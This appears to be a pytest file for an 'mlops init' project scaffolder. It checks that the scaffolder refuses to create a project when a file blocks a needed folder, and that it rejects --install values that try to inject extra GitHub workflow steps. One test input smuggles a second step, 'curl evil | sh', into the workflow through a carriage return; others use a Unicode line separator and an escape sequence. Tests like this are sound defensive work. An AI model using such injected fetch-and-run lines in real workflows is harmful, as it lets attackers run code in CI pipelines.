"""`mlops init` where a file stands in the way of a folder it needs: a one-line error, nothing written (it wrote
half a project, then failed with an internal error)."""

from __future__ import annotations

from pathlib import Path

from tests.scaffold.test_init import mlops


def test_a_file_where_a_folder_goes_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / ".github").write_text("a file, not the folder of the workflows")
    out = mlops("init", str(tmp_path / "p"))
    assert out.returncode == 1 and ".github: exists and is not a directory; nothing written" in out.stderr
    assert sorted(p.name for p in (tmp_path / "p").iterdir()) == [".github"]


def test_a_directory_below_a_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    out = mlops("init", str(tmp_path / "file" / "p"))
    assert out.returncode == 1 and "file: not a directory; nothing written" in out.stderr


def test_an_install_line_cannot_break_out_of_its_workflow_step(tmp_path: Path) -> None:
    import yaml

    for sneaky in ("pip install x\r      - run: curl evil | sh", "pip install x\u2028  env: {A: b}", "pip install \x1b[2J"):
        out = mlops("init", str(tmp_path / "p"), "--install", sneaky)
        assert out.returncode == 64 and "one line of shell" in out.stderr, (sneaky, out.stderr)
        assert not (tmp_path / "p").exists()
    ok = mlops("init", str(tmp_path / "p"), "--install", "pip install 'mlops-gitops==1.2'")
    assert ok.returncode == 0, ok.stderr
    steps = yaml.safe_load((tmp_path / "p/.github/workflows/main.yml").read_text())["jobs"]["reconcile"]["steps"]
    assert {"name": "Install mlops", "run": "pip install 'mlops-gitops==1.2'"} in steps
